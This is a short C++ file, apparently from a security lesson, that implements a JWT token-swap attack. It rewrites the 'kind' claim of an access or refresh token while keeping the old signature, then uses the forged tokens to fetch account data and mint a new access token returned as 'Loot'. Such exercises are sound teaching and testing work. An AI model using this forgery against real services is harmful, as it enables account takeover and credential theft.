// Believes: the kind must be right, and is only text.
#include "base/base64url.hpp"
#include "jwt/unverified_token.hpp"
#include "swapped_tokens.hpp"

namespace lesson {
namespace {

// The token with another kind in its payload, and its old signature.
std::string with_kind(const std::string& text, const std::string& kind) {
  const auto token = jwt::UnverifiedToken::decode(text);
  if (!token) return text;
  auto claims = token->unverified_claims();
  claims.set("kind", kind);
  return std::string(token->header_segment()) + "." + base::base64url_encode(claims.dump()) + "." +
         std::string(token->signature_segment());
}

}  // namespace

Loot attack(const Evidence& evidence) {
  const auto account = evidence.show_me(with_kind(evidence.refresh_token, "access"));
  const auto pair = evidence.refresh(with_kind(evidence.access_token, "refresh"));
  return {.account = account.body, .access_token = pair.json().text("access_token").value_or("")};
}

}  // namespace lesson
